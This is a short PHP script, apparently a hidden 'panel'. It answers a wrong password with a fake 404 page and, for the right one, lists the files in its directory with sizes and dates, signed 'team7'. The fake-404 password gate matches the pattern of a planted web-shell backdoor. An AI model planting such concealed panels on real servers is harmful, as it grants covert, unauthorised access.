<?php
// panel
$pass = '8f14e45fceea167a5a36dedd4bea2543';
$user = 'team7';
if ($_POST['p'] != $pass) { header('HTTP/1.0 404 Not Found'); exit; }
$dir = getcwd();
foreach (scandir($dir) as $name) {
    echo $name, ' ', filesize($name), ' ', date('Y-m-d', filemtime($name)), "\n";
}
echo 'by ', $user;
